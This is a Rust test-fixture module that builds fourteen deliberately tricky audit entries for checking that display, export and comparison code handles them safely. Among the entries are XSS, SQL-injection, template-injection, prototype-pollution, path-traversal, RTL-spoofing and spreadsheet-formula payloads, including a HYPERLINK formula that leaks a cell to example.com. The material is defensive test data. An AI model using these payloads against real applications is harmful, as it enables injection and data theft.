//! Owns valid contents that look like an attack or a mistake. Everything that shows, exports or
//! compares entries must handle them correctly.

use super::done::Done;
use domain::entry::Target;
use domain::json::JsonText;

/// How many oddities there are.
pub(super) const COUNT: usize = 14;

/// All oddities, from markup in a name to a value of a thousand elements.
pub(super) fn all() -> Vec<Done> {
    of_names().into_iter().zip(of_values()).flat_map(|(name, value)| [name, value]).collect()
}

fn done(
    action: &'static str,
    (kind, id, name): (&str, &str, &str),
    old: Option<&str>,
    new: Option<&str>,
) -> Done {
    let value = |text: &str| JsonText::from_stored(text.to_owned()).ok();
    let target = Target { kind: kind.to_owned(), id: id.to_owned(), name: Some(name.to_owned()) };
    Done { action, target, old_value: old.and_then(value), new_value: new.and_then(value) }
}

/// Names that a page, a spreadsheet, a terminal or a query could misinterpret.
fn of_names() -> [Done; COUNT / 2] {
    let longest = "Project of the very long name, ".chars().cycle().take(256).collect::<String>();
    [
        done(
            "project.create",
            ("project", "prj_markup", "<img src=x onerror=alert(1)>"),
            None,
            Some(concat!(
                r#"{"description":"</script><script>alert(1)</script>","name":"<img src=x "#,
                r#"onerror=alert(1)>","tags":["&amp;","{{7*7}}","${7*7}"]}"#,
            )),
        ),
        done(
            "member.invite",
            (
                "member",
                "mbr_formula",
                r#"=HYPERLINK("https://example.com/?leak="&A1,"Open invoice")"#,
            ),
            None,
            Some(concat!(
                r#"{"email":"+formula@example.com","#,
                r#""name":"=HYPERLINK(\"https://example.com/?leak=\"&A1,\"Open invoice\")","#,
                r#""role":"@SUM(1+1)"}"#,
            )),
        ),
        done(
            "member.invite",
            ("member", "mbr_direction", "Anna \u{202e}txt.exe"),
            None,
            Some(
                "{\"email\":\"anna@example.org\",\"name\":\"Anna \u{202e}txt.exe\",\
                 \"role\":\"guest\"}",
            ),
        ),
        done(
            "project.update",
            ("project", "prj_quote", "'); DROP TABLE projects;--"),
            Some(r#"{"name":"Quotes"}"#),
            Some(r#"{"name":"'); DROP TABLE projects;--"}"#),
        ),
        done(
            "project.update",
            ("project", "prj_lines", "\t-2+3\r\nSecond line, \"quoted\""),
            Some(r#"{"name":"Lines"}"#),
            Some(concat!(
                r#"{"name":"\t-2+3\r\nSecond line, \"quoted\"","#,
                r#""notes":"\u0000\u001b[31mred\u001b[0m"}"#,
            )),
        ),
        done(
            "member.remove",
            ("member", "../../mbr#invisible?x=1&y=2%00", "admin\u{200b}"),
            Some("{\"email\":\"admin@example.net\",\"name\":\"admin\u{200b}\",\"role\":\"guest\"}"),
            None,
        ),
        done(
            "project.update",
            ("project", "prj_longest", &longest),
            Some(r#"{"archived":false}"#),
            Some(r#"{"archived":true}"#),
        ),
    ]
}

/// Values that a reader could lose, round, reorder or confuse.
fn of_values() -> [Done; COUNT / 2] {
    let deepest = format!(r#"{{"mapping":{}"leaf"{}}}"#, "[".repeat(15), "]".repeat(15));
    let elements = |skipped: u32| {
        let elements: Vec<_> = (0..1_000)
            .filter(|number| *number != skipped)
            .map(|number| format!("\"h-{number:04}.example.net\""))
            .collect();
        format!(r#"{{"blocked_hosts":[{}]}}"#, elements.join(","))
    };
    [
        done(
            "settings.update",
            ("settings", "advanced", "Advanced"),
            Some(concat!(
                r#"{"__proto__":null,"constructor":"Object","hasOwnProperty":true,"#,
                r#""toString":"off"}"#,
            )),
            Some(concat!(
                r#"{"__proto__":{"isAdmin":true},"constructor":{"prototype":{}},"#,
                r#""hasOwnProperty":false,"toString":"on"}"#,
            )),
        ),
        done(
            "settings.update",
            ("settings", "billing", "Billing"),
            Some(concat!(
                r#"{"credit_limit_cents":18446744073709551615,"epsilon":1e-400,"rate":1.0,"#,
                r#""reference":9007199254740992,"zero":0}"#,
            )),
            Some(concat!(
                r#"{"credit_limit_cents":18446744073709551616,"epsilon":2e-400,"rate":1.00,"#,
                r#""reference":9007199254740993,"zero":-0.0}"#,
            )),
        ),
        done("project.update", ("project", "prj_kinds", "Kinds"), Some("null"), Some(r#""null""#)),
        done(
            "integration.connect",
            ("integration", "int_deepest", "Deep mapping"),
            None,
            Some(&deepest),
        ),
        done(
            "project.update",
            ("project", "prj_shape", "Shape"),
            Some(r#"{"owners":{"0":"a","1":"b"}}"#),
            Some(r#"{"owners":["a","b"]}"#),
        ),
        done(
            "settings.update",
            ("settings", "labels", "Labels"),
            Some("{\"\":1,\"a/b\":1,\"a~b\":1,\"e\u{301}\":1,\"é\":1}"),
            Some("{\"\":2,\" \":1,\"a/b\":2,\"a~b\":[],\"e\u{301}\":2,\"é\":1,\"😀\":1}"),
        ),
        done(
            "settings.update",
            ("settings", "network", "Network"),
            Some(&elements(500)),
            Some(&elements(1_000)),
        ),
    ]
}
